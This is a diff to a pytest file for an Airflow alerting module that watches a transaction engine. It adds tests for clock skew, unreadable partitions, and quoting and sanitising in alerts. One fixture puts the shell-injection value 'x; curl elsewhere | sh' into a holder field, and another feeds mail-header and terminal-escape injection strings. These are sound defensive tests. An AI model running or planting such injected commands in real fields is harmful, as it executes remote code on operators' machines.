@@ -335,6 +335,10 @@ def _row(**changes: Any) -> Mapping[str, Any]:
     [
         ({}, "its timeout of 60 s has passed; is txn_coordinator_sweep green?"),
         ({"holder_timeout_s": 3_600}, "`txn-engine transactions fence load-7` ends it now"),
+        (
+            {"holder_timeout_s": 3_600, "held_by": "x; curl elsewhere | sh"},
+            "`txn-engine transactions fence 'x; curl elsewhere | sh'` ends it now",
+        ),
         ({"holder_state": "PrepareCommit"}, "its markers are missing; is txn_write_markers green?"),
         ({"held_by": "producer 7", "holder_state": ""}, "`txn-engine transactions find-hanging` shows it"),
     ],
@@ -346,8 +350,106 @@ def test_each_holder_is_ended_in_its_own_way(changes: Mapping[str, Any], does: s
     with pytest.raises(AlertError) as told:
         check_lso([_row(**changes)], 900)
     assert does in str(told.value)
-    assert "payments-0 at offset 118, 12 before the log's end, held for 1,200 s" in str(told.value)
+    held_by = changes.get("held_by", "load-7")
+    assert f"payments-0 at offset 118, 12 before the log's end, held by {held_by} for 1,200 s" in str(
+        told.value
+    )
     assert "\n" not in str(told.value)
+
+
+@pytest.mark.parametrize(
+    ("changes", "does"),
+    [
+        (
+            {},
+            "whether its timeout of 60 s has passed is unknown; `txn-engine transactions fence load-7` ends it",
+        ),
+        ({"holder_state": "PrepareAbort"}, "its markers are missing"),
+        ({"holder_state": "Unknown"}, "mend that first"),
+        (
+            {"held_by": "producer 7", "holder_state": "", "holder_timeout_s": -1},
+            "`txn-engine transactions abort --topic payments --partition 0 --start-offset 118`",
+        ),
+    ],
+)
+def test_a_holder_of_unknown_age_is_an_alert(changes: Mapping[str, Any], does: str) -> None:
+    """A clock that is wrong makes the age unknown, for years if need be: readers wait all the same."""
+    from txn_engine_airflow.alerts import AlertError, check_lso
+
+    with pytest.raises(AlertError) as told:
+        check_lso([_row(held_for_s=-1, **changes)], 900)
+    assert "age unknown" in str(told.value)
+    assert does in str(told.value)
+    assert "-1 s" not in str(told.value)
+
+
+def test_what_was_sent_by_a_clock_that_was_ahead_is_sent_again(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Set back by a day, the clock says that the last mail is of tomorrow: that silences nothing."""
+    from txn_engine_airflow import alerts
+
+    now_ms = 1_700_000_000_000
+    monkeypatch.setattr("txn_engine.clock.system_clock", lambda: now_ms)
+    monkeypatch.setattr(
+        alerts.Settings, "load", classmethod(lambda cls: cls(notifier="a.b", repeat_after_s=3_600))
+    )
+    notified: list[str] = []
+    monkeypatch.setattr(alerts, "_notify", lambda settings, alert, context: notified.append(alert.title))
+
+    class Instance:
+        dag_id, task_id, run_id, try_number, map_index = "d", "t", "r", 1, None
+
+        def __init__(self, sent_ms: int) -> None:
+            self._sent_ms = sent_ms
+
+        def xcom_pull(self, **_: object) -> dict[str, int]:
+            return {"failed": self._sent_ms}
+
+        def xcom_push(self, *_: object) -> None: ...
+
+    for sent_ms, told in ((now_ms - 60_000, 0), (now_ms + 86_400_000, 1), (now_ms - 3_600_000, 1)):
+        notified.clear()
+        alerts.on_failure({"ti": Instance(sent_ms), "exception": ValueError("x")})
+        assert len(notified) == told
+
+
+def test_a_partition_that_cannot_be_read_does_not_end_a_lag_that_grows() -> None:
+    """The group did not catch up: its history waits until the number is known; of a deleted topic it goes."""
+    from txn_engine_airflow.tables import LAG_COLUMNS, Table, lag_history
+
+    def table(*lags: tuple[str, str, int, int], unreadable: tuple[str, ...] = ()) -> Table:
+        rows: list[list[str | int]] = [[g, t, p, 0, 0, lag, 0, -1, -1] for g, t, p, lag in lags]
+        damaged = [[place, "damaged"] for place in unreadable]
+        return Table(columns=LAG_COLUMNS, rows=rows, rows_left_out=0, unreadable=damaged)
+
+    before = {"g on t": [5, 6], "h on t": [1, 2]}
+    one_part = table(("g", "t", 0, 3), ("g", "t", 1, -1), ("h", "t", 0, 3), unreadable=("t-1",))
+    assert lag_history(one_part, before, 2) == {"g on t": [5, 6], "h on t": [1, 2, 3]}
+    topic = table(("g", "t", 0, -1), ("g", "t", 1, -1), ("h", "t", 0, -1), unreadable=("t",))
+    assert lag_history(topic, before, 2) == before
+    group = table(("h", "t", 0, 3), unreadable=("__consumer_offsets-7",))
+    assert lag_history(group, before, 2) == {"g on t": [5, 6], "h on t": [1, 2, 3]}
+    deleted = table(("g", "t", 0, -1), ("h", "t", 0, 3))
+    assert lag_history(deleted, before, 2) == {"h on t": [1, 2, 3]}
+    assert lag_history(table(("g", "t", 0, 7)), before, 2) == {"g on t": [5, 6, 7]}
+
+
+def test_an_alert_quotes_no_foreign_error_and_breaks_no_line() -> None:
+    """Whatever a library says may hold a record; an id may hold what ends a mail's subject, or moves a cursor."""
+    from txn_engine_airflow.alerts import Alert, AlertError
+
+    class Instance:
+        dag_id, task_id, run_id, try_number = "txn_spark_consume", "consume", "manual", 1
+
+    foreign = Alert.of(
+        {"ti": Instance(), "exception": ValueError("could not convert 'CARD 4111' to a number")}
+    )
+    assert "4111" not in foreign.title + foreign.text
+    assert foreign.text.startswith("ValueError: what it says stands in the task's log.")
+    mine = Alert.of(
+        {"ti": Instance(), "exception": AlertError("held by a\nBcc: x\x1b[2J", "seen\x1b[2J", ["a"])}
+    )
+    assert mine.title == "txn-engine: held by a Bcc: x\\x1b[2J"
+    assert "\x1b" not in mine.text
 
 
 def test_readers_that_wait_for_less_than_the_limit_are_no_alert() -> None:
@@ -373,7 +475,7 @@ def test_a_lag_grows_where_each_of_the_last_runs_had_more(lags: list[int], is_gr
 
     settings = Settings(lag_growing_runs=2, lag_min=2)
     if is_growing:
-        with pytest.raises(AlertError, match="lag of 1 consumer groups grew in each of the last 2 runs"):
+        with pytest.raises(AlertError, match="lag grew in each of the last 2 runs: 1;"):
             check_lag({"g on t": lags}, settings)
     else:
         check_lag({"g on t": lags}, settings)
